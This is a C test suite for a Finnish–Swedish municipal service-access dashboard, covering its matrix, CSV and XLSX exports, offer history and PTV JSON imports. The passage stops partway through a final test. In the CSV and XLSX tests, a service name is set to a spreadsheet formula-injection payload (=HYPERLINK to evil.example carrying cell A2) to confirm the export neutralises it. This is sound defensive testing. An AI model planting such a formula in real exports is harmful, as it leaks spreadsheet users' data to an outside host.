/* Equal access (management side): the matrix with its counts and marks, the
 * CSV and XLSX downloads with the same numbers, offer editing with history,
 * and the PTV import (good file, the same file again, bad files) and export.
 * Runs on SQLite and PostgreSQL (KOHTAAMO_TEST_BACKEND). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "testsrv.h"
#include "xlsxread.h"
#include "equality/equality.h"

static testsrv srv;
static const char *const PW = "tasa-arvoinen salasana";
static const char *const STAFF = "johtaja@kohtaamo.example";

static int64_t scalar(const char *sql, const char *param)
{
    return testsrv_scalar(&srv, sql, param, -1);
}

/* Three municipalities (two bilingual), three services, three points:
 *   Perheneuvola: standard by appointment; Raasepori by appointment in Finnish
 *     only (not in Swedish), Lohja some weekdays (below), Espoo none (missing).
 *   Hammashoito: standard walk-in; Raasepori walk-in fi,sv (ok), others missing.
 *   Diabeteshoitaja: no standard; Raasepori remote fi,sv (ok), others missing.
 * => 9 cells: 5 missing, 1 below, 1 not in Swedish, 2 ok. */
static int setup(void **state)
{
    (void)state;
    const char *const migrate[] = {"migrate", NULL};
    assert_int_equal(run_cli(&srv, NULL, migrate), 0);
    setenv("KOHTAAMO_PASSWORD", PW, 1);
    const char *const add[] = {"user", "add", "--email", STAFF, "--role", "staff", "--name", "Johanna Järvinen", NULL};
    assert_int_equal(run_cli(&srv, NULL, add), 0);
    const char *const add2[] = {"user", "add", "--email", "asukas@kohtaamo.example", "--role", "resident", NULL};
    assert_int_equal(run_cli(&srv, NULL, add2), 0);
    db *d = testsrv_db(&srv);
    testdb_exec(d, "INSERT INTO municipalities(code, name_fi, name_sv, bilingual) VALUES "
                   "('710', 'Raasepori', 'Raseborg', 1), ('444', 'Lohja', 'Lojo', 0), ('049', 'Espoo', 'Esbo', 1)", 0, NULL);
    testdb_exec(d, "INSERT INTO services(code, name_fi, name_sv, created_at, updated_at) VALUES "
                   "('fam', 'Perheneuvola', 'Familjerådgivning', 1, 1), ('dental', 'Hammashoito', 'Tandvård', 1, 1), "
                   "('diab', 'Diabeteshoitaja', 'Diabetesskötare', 1, 1)", 0, NULL);
    testdb_exec(d, "INSERT INTO service_standards(service_id, level, languages, updated_at) "
                   "SELECT id, 'by_appointment', 'fi,sv', 1 FROM services WHERE code = 'fam'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_standards(service_id, level, languages, updated_at) "
                   "SELECT id, 'walk_in_daily', 'fi,sv', 1 FROM services WHERE code = 'dental'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_points(code, municipality_id, kind, name_fi, name_sv, created_at, updated_at) "
                   "SELECT 'p1', id, 'sote_centre', 'Raaseporin sote-keskus', 'Raseborgs social- och hälsocentral', 1, 1 "
                   "FROM municipalities WHERE code = '710'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_points(code, municipality_id, kind, name_fi, name_sv, created_at, updated_at) "
                   "SELECT 'p2', id, 'health_station', 'Karjaan terveysasema', 'Karis hälsostation', 1, 1 "
                   "FROM municipalities WHERE code = '710'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_points(code, municipality_id, kind, name_fi, name_sv, created_at, updated_at) "
                   "SELECT 'p3', id, 'family_centre', 'Lohjan perhekeskus', 'Lojo familjecenter', 1, 1 "
                   "FROM municipalities WHERE code = '444'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_offers(service_id, point_id, level, weekdays, languages, updated_at) "
                   "SELECT s.id, p.id, 'by_appointment', '', 'fi', 1 FROM services s, service_points p WHERE s.code = 'fam' AND p.code = 'p1'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_offers(service_id, point_id, level, weekdays, languages, updated_at) "
                   "SELECT s.id, p.id, 'weekly_days', '2,4', 'fi', 1 FROM services s, service_points p WHERE s.code = 'fam' AND p.code = 'p3'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_offers(service_id, point_id, level, weekdays, languages, updated_at) "
                   "SELECT s.id, p.id, 'walk_in_daily', '', 'fi,sv', 1 FROM services s, service_points p WHERE s.code = 'dental' AND p.code = 'p2'", 0, NULL);
    testdb_exec(d, "INSERT INTO service_offers(service_id, point_id, level, weekdays, languages, updated_at) "
                   "SELECT s.id, p.id, 'remote_only', '', 'fi,sv', 1 FROM services s, service_points p WHERE s.code = 'diab' AND p.code = 'p1'", 0, NULL);
    db_close(d);
    testsrv_start(&srv);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    assert_int_equal(testsrv_stop(&srv), 0);
    return 0;
}

/* The number in <dd id="ID">N</dd>, or -1. */
static long total(const tresp *r, const char *id)
{
    char needle[64];
    snprintf(needle, sizeof needle, "<dd id=\"%s\">", id);
    const char *p = strstr(r->body.data, needle);
    return p ? strtol(p + strlen(needle), NULL, 10) : -1;
}

/* The <tr> of the matrix whose row header is name (malloc'd), or NULL. */
static char *matrix_row(const tresp *r, const char *name)
{
    char needle[128];
    snprintf(needle, sizeof needle, "<tr><th scope=\"row\">%s</th>", name);
    const char *p = strstr(r->body.data, needle);
    if (!p) return NULL;
    const char *e = strstr(p, "</tr>");
    return e ? strndup(p, (size_t)(e - p)) : NULL;
}

static void staff_login(tclient *c, const char *lang) { login_as(c, lang, STAFF, PW); }

static void matrix_counts_and_marks(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    tresp r;
    http_get(&c, "/fi/staff/equal-access", NULL, &r);
    assert_int_equal(r.status, 303);   /* to the login page */
    tresp_free(&r);
    login_as(&c, "fi", "asukas@kohtaamo.example", PW);
    http_get(&c, "/fi/staff/equal-access", NULL, &r);
    assert_int_equal(r.status, 403);
    tresp_free(&r);
    tclient_free(&c);

    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    http_get(&c, "/fi/staff/equal-access", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(total(&r, "total-cells"), 9);
    assert_int_equal(total(&r, "total-missing"), 5);
    assert_int_equal(total(&r, "total-below"), 1);
    assert_int_equal(total(&r, "total-no-sv"), 1);
    assert_int_equal(total(&r, "total-ok"), 2);
    char *fam = matrix_row(&r, "Perheneuvola");
    assert_non_null(fam);
    assert_non_null(strstr(fam, "(Ei ruotsiksi)"));       /* Raasepori: Finnish only */
    assert_non_null(strstr(fam, "(Alle tavoitetason)"));  /* Lohja: some weekdays */
    assert_non_null(strstr(fam, "(Puuttuu)"));            /* Espoo */
    free(fam);
    char *dental = matrix_row(&r, "Hammashoito");
    assert_non_null(dental);
    assert_null(strstr(dental, "Ei ruotsiksi"));
    assert_non_null(strstr(dental, "Ilman ajanvarausta joka arkipäivä"));
    free(dental);
    /* the heat map is an image with a title and a description giving the counts */
    assert_true(body_has(&r, "<svg role=\"img\" aria-labelledby=\"hm-title hm-desc\""));
    assert_true(body_has(&r, "Puuttuu: 5."));
    tresp_free(&r);
    /* Swedish page: Swedish names and marks */
    http_get(&c, "/sv/staff/equal-access", NULL, &r);
    assert_int_equal(r.status, 200);
    char *fam_sv = matrix_row(&r, "Familjerådgivning");
    assert_non_null(fam_sv);
    assert_non_null(strstr(fam_sv, "(Inte på svenska)"));
    free(fam_sv);
    tresp_free(&r);
    tclient_free(&c);
}

/* Splits one CSV record (RFC 4180) starting at *p into fields; advances *p. */
static int csv_record(const char **p, char fields[][128], int max)
{
    int n = 0;
    const char *s = *p;
    if (!*s) return 0;
    for (;;) {
        char *out = fields[n];
        size_t len = 0;
        if (*s == '"') {
            s++;
            for (;;) {
                if (*s == '"' && s[1] == '"') out[len++] = '"', s += 2;
                else if (*s == '"') { s++; break; }
                else out[len++] = *s++;
            }
        } else {
            while (*s && *s != ',' && *s != '\r') out[len++] = *s++;
        }
        out[len] = '\0';
        n++;
        if (*s == ',') { s++; assert_true(n < max); continue; }
        assert_true(s[0] == '\r' && s[1] == '\n');
        s += 2;
        break;
    }
    *p = s;
    return n;
}

static void csv_matches_the_table(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    tresp r;
    http_get(&c, "/fi/staff/equal-access.csv", NULL, &r);
    assert_int_equal(r.status, 200);
    char *ct = tresp_header(&r, "Content-Type");
    assert_non_null(strstr(ct, "text/csv"));
    free(ct);
    assert_memory_equal(r.body.data, "\xEF\xBB\xBF", 3);
    const char *p = r.body.data + 3;
    char f[10][128];
    assert_int_equal(csv_record(&p, f, 10), 8);
    assert_string_equal(f[0], "Palvelu");
    assert_string_equal(f[7], "Ei ruotsiksi");
    int rows = 0, missing = 0, below = 0, nosv = 0;
    bool fam_raasepori = false;
    while (*p) {
        assert_int_equal(csv_record(&p, f, 10), 8);
        rows++;
        missing += atoi(f[5]);
        below += atoi(f[6]);
        nosv += atoi(f[7]);
        if (strcmp(f[0], "Perheneuvola") == 0 && strcmp(f[2], "710") == 0) {
            fam_raasepori = true;
            assert_string_equal(f[3], "Paikan päällä ajanvarauksella");
            assert_string_equal(f[7], "1");
        }
    }
    assert_int_equal(rows, 9);
    assert_int_equal(missing, 5);
    assert_int_equal(below, 1);
    assert_int_equal(nosv, 1);
    assert_true(fam_raasepori);
    tresp_free(&r);
    /* a service named like a formula: text with an apostrophe, the marks still numbers */
    db *d = testsrv_db(&srv);
    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
    http_get(&c, "/fi/staff/equal-access.csv", NULL, &r);
    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
    db_close(d);
    assert_int_equal(r.status, 200);
    p = r.body.data + 3;
    assert_int_equal(csv_record(&p, f, 10), 8);
    int evil_rows = 0;
    missing = 0;
    while (*p) {
        assert_int_equal(csv_record(&p, f, 10), 8);
        assert_true(f[0][0] != '=');
        missing += atoi(f[5]);
        if (strcmp(f[0], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) {
            evil_rows++;
            assert_true(strcmp(f[5], "0") == 0 || strcmp(f[5], "1") == 0);
        }
    }
    assert_int_equal(evil_rows, 3);
    assert_int_equal(missing, 5);
    tresp_free(&r);
    tclient_free(&c);
}

static const char *cell_text(json_t *book, size_t sheet, size_t y, size_t x)
{
    json_t *v = xlsx_cell(book, sheet, y, x);
    assert_true(json_is_string(v));
    return json_string_value(v);
}

static long long cell_number(json_t *book, size_t sheet, size_t y, size_t x)
{
    json_t *v = xlsx_cell(book, sheet, y, x);
    assert_true(json_is_integer(v));
    return json_integer_value(v);
}

static json_t *download_xlsx(tclient *c)
{
    tresp r;
    http_get(c, "/fi/staff/equal-access.xlsx", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_memory_equal(r.body.data, "PK", 2);
    json_t *book = xlsx_read(r.body.data, r.body.len);
    tresp_free(&r);
    return book;
}

static void xlsx_has_the_same_numbers(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    json_t *book = download_xlsx(&c);
    json_t *sheets = json_object_get(book, "sheets");
    assert_int_equal(json_array_size(sheets), 2);
    /* Totals: missing 5, below 1, not in Swedish 1, ok 2, cells 9, in that order, as numbers */
    assert_string_equal(cell_text(book, 1, 0, 1), "Soluja");
    const long long totals[5] = {5, 1, 1, 2, 9};
    for (size_t i = 0; i < 5; i++) {
        assert_true(json_is_string(xlsx_cell(book, 1, i + 1, 0)));
        assert_int_equal(cell_number(book, 1, i + 1, 1), totals[i]);
    }
    /* the matrix: a header and 9 rows of 8 columns, the same as the CSV */
    json_t *rows = json_object_get(json_array_get(sheets, 0), "rows");
    assert_int_equal(json_array_size(rows), 10);
    assert_string_equal(cell_text(book, 0, 0, 0), "Palvelu");
    assert_string_equal(cell_text(book, 0, 0, 7), "Ei ruotsiksi");
    bool fam_raasepori = false;
    long long missing = 0;
    for (size_t y = 1; y < 10; y++) {
        assert_int_equal(json_array_size(json_array_get(rows, y)), 8);
        missing += cell_number(book, 0, y, 5);
        if (strcmp(cell_text(book, 0, y, 0), "Perheneuvola") == 0 && strcmp(cell_text(book, 0, y, 2), "710") == 0) {
            fam_raasepori = true;
            assert_string_equal(cell_text(book, 0, y, 3), "Paikan päällä ajanvarauksella");
            assert_int_equal(cell_number(book, 0, y, 7), 1);
        }
    }
    assert_true(fam_raasepori);
    assert_int_equal(missing, 5);
    for (size_t i = 0; i < 2; i++)
        assert_int_equal(json_array_size(json_object_get(json_array_get(sheets, i), "formulas")), 0);
    json_decref(book);
    /* a service named like a formula is text in the workbook, never a formula */
    db *d = testsrv_db(&srv);
    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
    book = download_xlsx(&c);
    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
    db_close(d);
    int seen = 0;
    for (size_t y = 1; y < 10; y++)
        if (strcmp(cell_text(book, 0, y, 0), "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) seen++;
    assert_int_equal(seen, 3);
    assert_int_equal(json_array_size(json_object_get(json_array_get(json_object_get(book, "sheets"), 0), "formulas")), 0);
    json_decref(book);
    tclient_free(&c);
}

static void offer_edit_writes_history(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    const char *offer_url = "/fi/staff/equal-access/offers/fam/p3";
    tresp r;
    http_get(&c, "/fi/staff/equal-access/cells/fam/444", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Lohjan perhekeskus"));
    assert_true(body_has(&r, offer_url));
    tresp_free(&r);
    char *tok = fetch_csrf(&c, offer_url);
    /* weekly days with a bad weekday: 400, input kept, error beside the field */
    const char *bad[] = {"csrf", tok, "level", "weekly_days", "weekdays", "2,8", "languages", "fi", NULL};
    http_post_form(&c, offer_url, bad, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "id=\"f-weekdays-error\""));
    assert_true(body_has(&r, "value=\"2,8\""));
    assert_true(body_has(&r, "Kirjoita viikonpäivät numeroina"));
    tresp_free(&r);
    const char *badlevel[] = {"csrf", tok, "level", "sometimes", "languages", "fi", NULL};
    http_post_form(&c, offer_url, badlevel, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "id=\"f-level-error\""));
    tresp_free(&r);
    const char *nolang[] = {"csrf", tok, "level", "by_appointment", NULL};
    http_post_form(&c, offer_url, nolang, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "id=\"f-lang-error\""));
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM offer_history", NULL), 0);
    /* a good change: recorded with who and when */
    const char *ok[] = {"csrf", tok, "level", "by_appointment", "languages", "fi", "languages", "sv", "note_fi",
                        "Ajanvaraus puhelimitse", "change_note", "Lohjalle ajanvaraus ja ruotsi", NULL};
    http_post_form(&c, offer_url, ok, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM offer_history WHERE old_level = 'weekly_days' AND new_level = "
                            "'by_appointment' AND old_languages = 'fi' AND new_languages = 'fi,sv' AND note = $1 "
                            "AND changed_by = (SELECT id FROM users WHERE email = 'johtaja@kohtaamo.example') "
                            "AND changed_at > 0", "Lohjalle ajanvaraus ja ruotsi"), 1);
    /* saving the same again records nothing */
    http_post_form(&c, offer_url, ok, &r);
    assert_int_equal(r.status, 303);
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM offer_history", NULL), 1);
    /* the matrix follows: nothing is below the standard any more */
    http_get(&c, "/fi/staff/equal-access", NULL, &r);
    assert_int_equal(total(&r, "total-below"), 0);
    assert_int_equal(total(&r, "total-ok"), 3);
    tresp_free(&r);
    /* the history page shows what, who and why, and the month by month progress */
    http_get(&c, "/fi/staff/equal-access/history", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Lohjalle ajanvaraus ja ruotsi"));
    assert_true(body_has(&r, "Johanna Järvinen"));
    assert_true(body_has(&r, "<td>Paikan päällä joinakin arkipäivinä</td><td>Paikan päällä ajanvarauksella</td>"));
    /* last month end: before the change, 7 gaps; now 6 */
    assert_true(body_has(&r, "<td>5</td><td>1</td><td>1</td><td>7</td>"));
    assert_true(body_has(&r, "<td>5</td><td>0</td><td>1</td><td>6</td></tr>\n  </tbody>"));
    tresp_free(&r);
    http_get(&c, "/fi/staff/equal-access/offers/fam/nowhere", NULL, &r);
    assert_int_equal(r.status, 404);
    tresp_free(&r);
    free(tok);
    tclient_free(&c);
}

static void post_file(tclient *c, const char *path, const char *tok, const char *filename, const char *content,
                      tresp *r)
{
    const char *bd = "----kohtaamoTestBoundary7";
    buf b = BUF_INIT;
    buf_printf(&b, "--%s\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n%s\r\n", bd, tok);
    if (filename) {
        buf_printf(&b, "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
                       "Content-Type: application/json\r\n\r\n", bd, filename);
        buf_puts(&b, content);
        buf_puts(&b, "\r\n");
    }
    buf_printf(&b, "--%s--\r\n", bd);
    char ct[128];
    snprintf(ct, sizeof ct, "multipart/form-data; boundary=%s", bd);
    http_request(c, "POST", path, ct, b.data, b.len, NULL, r);
    buf_free(&b);
}

static const char GOOD[] =
    "{\"services\": ["
    " {\"id\": \"0a1b2c3d-0000-4000-8000-000000000001\", \"serviceNames\": ["
    "   {\"language\": \"fi\", \"value\": \"Puheterapia\", \"type\": \"Name\"},"
    "   {\"language\": \"sv\", \"value\": \"Talterapi\", \"type\": \"Name\"}],"
    "  \"serviceDescriptions\": [{\"language\": \"fi\", \"value\": \"Puheen ja kielen kuntoutus.\", \"type\": \"Summary\"}]},"
    " {\"id\": \"0a1b2c3d-0000-4000-8000-000000000002\", \"serviceNames\": ["
    "   {\"language\": \"fi\", \"value\": \"Kuulontutkimus\", \"type\": \"Name\"}]}],"
    " \"serviceChannels\": ["
    " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000c1\", \"serviceChannelType\": \"ServiceLocation\","
    "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Tammisaaren terveysasema\", \"type\": \"Name\"},"
    "    {\"language\": \"sv\", \"value\": \"Ekenäs hälsostation\", \"type\": \"Name\"}],"
    "  \"addresses\": [{\"type\": \"Location\", \"streetAddress\": {\"street\": [{\"language\": \"fi\", \"value\": \"Sairaalakatu\"},"
    "    {\"language\": \"sv\", \"value\": \"Sjukhusgatan\"}], \"streetNumber\": \"3\", \"postalCode\": \"10600\","
    "    \"postOffice\": [{\"language\": \"fi\", \"value\": \"RAASEPORI\"}], \"municipality\": {\"code\": \"710\"}}}],"
    "  \"phoneNumbers\": [{\"number\": \"019 289 1234\", \"prefixNumber\": \"+358\", \"language\": \"fi\"}],"
    "  \"serviceHours\": ["
    "   {\"serviceHourType\": \"DaysOfTheWeek\", \"isClosed\": false, \"openingHour\": ["
    "     {\"dayFrom\": \"Monday\", \"dayTo\": \"Thursday\", \"from\": \"08:00\", \"to\": \"16:00\"},"
    "     {\"dayFrom\": \"Friday\", \"from\": \"08:00\", \"to\": \"14:00\"}]},"
    "   {\"serviceHourType\": \"Exceptional\", \"validFrom\": \"2026-12-06T00:00:00\", \"isClosed\": true,"
    "    \"additionalInformation\": [{\"language\": \"fi\", \"value\": \"Itsenäisyyspäivä\"}]}]},"
    " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000c2\", \"serviceChannelType\": \"Phone\","
    "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Neuvonta\", \"type\": \"Name\"}]}]}";

static void import_good_file_twice(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    tresp r;
    http_get(&c, "/fi/staff/equal-access/import", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "enctype=\"multipart/form-data\""));
    tresp_free(&r);
    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", GOOD, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "Tiedosto tuotiin."));
    assert_true(body_has(&r, "<th scope=\"row\">Palvelut</th><td>2</td><td>0</td><td>0</td>"));
    assert_true(body_has(&r, "<th scope=\"row\">Palvelupaikat</th><td>1</td><td>0</td><td>0</td>"));
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM services WHERE ptv_id IS NOT NULL", NULL), 2);
    assert_int_equal(scalar("SELECT COUNT(*) FROM services WHERE name_sv = $1", "Talterapi"), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM service_points WHERE street_fi = 'Sairaalakatu 3' AND postal_code = "
                            "'10600' AND municipality_id = (SELECT id FROM municipalities WHERE code = '710')", NULL), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM opening_hours h JOIN service_points p ON p.id = h.point_id "
                            "WHERE p.ptv_id = $1", "0a1b2c3d-0000-4000-8000-0000000000c1"), 5);
    assert_int_equal(scalar("SELECT COUNT(*) FROM opening_hours WHERE weekday = 5 AND opens_min = 480 AND closes_min = 840",
                            NULL), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM opening_exceptions WHERE date_from = '2026-12-06' AND closed = 1 "
                            "AND note_fi = $1", "Itsenäisyyspäivä"), 1);
    assert_int_equal(scalar("SELECT COUNT(*) FROM service_channels WHERE phone = '+358192891234'", NULL), 1);
    int64_t max_hours = scalar("SELECT MAX(id) FROM opening_hours", NULL);
    int64_t upd = scalar("SELECT MAX(updated_at) FROM services WHERE ptv_id IS NOT NULL", NULL);
    /* the same file again changes nothing */
    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", GOOD, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "<th scope=\"row\">Palvelut</th><td>0</td><td>0</td><td>2</td>"));
    assert_true(body_has(&r, "<th scope=\"row\">Palvelupaikat</th><td>0</td><td>0</td><td>1</td>"));
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM services", NULL), 5);
    assert_int_equal(scalar("SELECT COUNT(*) FROM service_points", NULL), 4);
    assert_int_equal(scalar("SELECT MAX(id) FROM opening_hours", NULL), max_hours);
    assert_int_equal(scalar("SELECT MAX(updated_at) FROM services WHERE ptv_id IS NOT NULL", NULL), upd);
    /* the export reads back as unchanged too */
    http_get(&c, "/api/v1/ptv/channels.json", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "\"0a1b2c3d-0000-4000-8000-0000000000c1\""));
    json_t *j = json_loads(r.body.data, 0, NULL);
    assert_non_null(j);
    json_t *only = json_object();
    json_t *items = json_array();
    size_t k;
    json_t *it;
    json_array_foreach(json_object_get(j, "itemList"), k, it)
        if (json_is_string(json_object_get(it, "id"))) json_array_append(items, it);
    json_object_set_new(only, "serviceChannels", items);
    char *again = json_dumps(only, 0);
    tresp_free(&r);
    post_file(&c, "/fi/staff/equal-access/import", tok, "channels.json", again, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "<th scope=\"row\">Palvelupaikat</th><td>0</td><td>0</td><td>1</td>"));
    tresp_free(&r);
    free(again);
    json_decref(only);
    json_decref(j);
    http_get(&c, "/api/v1/ptv/services.json", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_true(body_has(&r, "\"Talterapi\""));
    tresp_free(&r);
    free(tok);
    tclient_free(&c);
}

static void import_bad_files_store_nothing(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
    int64_t services = scalar("SELECT COUNT(*) FROM services", NULL);
    int64_t points = scalar("SELECT COUNT(*) FROM service_points", NULL);
    tresp r;
    /* no file */
    post_file(&c, "/fi/staff/equal-access/import", tok, NULL, NULL, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "id=\"f-file-error\""));
    assert_true(body_has(&r, "Valitse tuotava JSON-tiedosto."));
    tresp_free(&r);
    /* malformed JSON */
    post_file(&c, "/fi/staff/equal-access/import", tok, "broken.json", "{\"services\": [{\"id\": \"x\",", &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Tiedosto ei ole kelvollista JSONia."));
    assert_true(body_has(&r, "Mitään ei tallennettu."));
    tresp_free(&r);
    /* one good service and three bad records: the report lists each, nothing is stored */
    static const char BAD[] =
        "{\"services\": ["
        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000aa\", \"serviceNames\": [{\"language\": \"fi\", \"value\": \"Hyvä palvelu\", \"type\": \"Name\"}]},"
        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000ab\", \"serviceNames\": [{\"language\": \"sv\", \"value\": \"Bara svenska\", \"type\": \"Name\"}]}],"
        " \"serviceChannels\": ["
        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000ac\", \"serviceChannelType\": \"ServiceLocation\","
        "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Outo paikka\", \"type\": \"Name\"}],"
        "  \"addresses\": [{\"type\": \"Location\", \"streetAddress\": {\"municipality\": {\"code\": \"999\"}}}]},"
        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000ad\", \"serviceChannelType\": \"ServiceLocation\","
        "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Päällekkäinen\", \"type\": \"Name\"}],"
        "  \"addresses\": [{\"type\": \"Location\", \"streetAddress\": {\"municipality\": {\"code\": \"444\"}}}],"
        "  \"serviceHours\": [{\"serviceHourType\": \"DaysOfTheWeek\", \"openingHour\": ["
        "    {\"dayFrom\": \"Monday\", \"dayTo\": \"Friday\", \"from\": \"08:00\", \"to\": \"16:00\"},"
        "    {\"dayFrom\": \"Wednesday\", \"from\": \"12:00\", \"to\": \"18:00\"}]}]}]}";
    post_file(&c, "/fi/staff/equal-access/import", tok, "bad.json", BAD, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Tietueella ei ole suomenkielistä nimeä."));
    assert_true(body_has(&r, "Tuntematon kuntanumero. (999)"));
    assert_true(body_has(&r, "Aukioloajat menevät päällekkäin."));
    assert_true(body_has(&r, "0a1b2c3d-0000-4000-8000-0000000000ad"));
    assert_false(body_has(&r, "0a1b2c3d-0000-4000-8000-0000000000aa</td>"));
    tresp_free(&r);
    assert_int_equal(scalar("SELECT COUNT(*) FROM services", NULL), services);
    assert_int_equal(scalar("SELECT COUNT(*) FROM service_points", NULL), points);
    assert_int_equal(scalar("SELECT COUNT(*) FROM services WHERE name_fi = $1", "Hyvä palvelu"), 0);
    free(tok);
    tclient_free(&c);
}

/* The server's peak resident memory in MB (VmHWM of its /proc status). */
static long server_peak_mb(void)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", (int)srv.pid);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    long kb = -1;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "VmHWM: %ld kB", &kb) == 1) break;
    fclose(f);
    assert_true(kb > 0);
    return kb / 1024;
}

static void server_is_healthy(tclient *c)
{
    tresp r;
    http_get(c, "/healthz", NULL, &r);
    assert_int_equal(r.status, 200);
    tresp_free(&r);
}

/* A staff upload with a number where text belongs used to crash the server
 * (every resident disconnected); now the record is named in the report. */
static void import_field_of_a_wrong_type_names_the_record(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "fi");
    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
    int64_t points = scalar("SELECT COUNT(*) FROM service_points", NULL);
    static const char DAYTO_NUMBER[] =
        "{\"serviceChannels\": ["
        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000e1\", \"serviceChannelType\": \"ServiceLocation\","
        "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Karjaan neuvola\", \"type\": \"Name\"}],"
        "  \"addresses\": [{\"type\": \"Location\", \"streetAddress\": {\"municipality\": {\"code\": \"710\"}}}],"
        "  \"serviceHours\": [{\"serviceHourType\": \"DaysOfTheWeek\", \"openingHour\": ["
        "    {\"dayFrom\": \"Monday\", \"dayTo\": 5, \"from\": \"08:00\", \"to\": \"16:00\"}]}]}]}";
    tresp r;
    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", DAYTO_NUMBER, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Mitään ei tallennettu."));
    assert_true(body_has(&r, "<td>Asiointikanava nro 1</td><td>0a1b2c3d-0000-4000-8000-0000000000e1</td>"
                             "<td>Kentän pitäisi olla tekstiä. (serviceHours[0].openingHour[0].dayTo)</td>"));
    tresp_free(&r);
    server_is_healthy(&c);
    /* in Swedish too */
    tclient sv;
    tclient_init(&sv, &srv);
    staff_login(&sv, "sv");
    char *tok_sv = fetch_csrf(&sv, "/sv/staff/equal-access/import");
    post_file(&sv, "/sv/staff/equal-access/import", tok_sv, "ptv.json", DAYTO_NUMBER, &r);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Fältet borde vara text. (serviceHours[0].openingHour[0].dayTo)"));
    tresp_free(&r);
    free(tok_sv);
    tclient_free(&sv);
    assert_int_equal(scalar("SELECT COUNT(*) FROM service_points", NULL), points);
    free(tok);
    tclient_free(&c);
}

/* A 16 KB file of 8,000 numbers peaked at 1.36 GB; now it is refused at once. */
static void import_of_a_huge_list_is_bounded(void **state)
{
    (void)state;
    tclient c;
    tclient_init(&c, &srv);
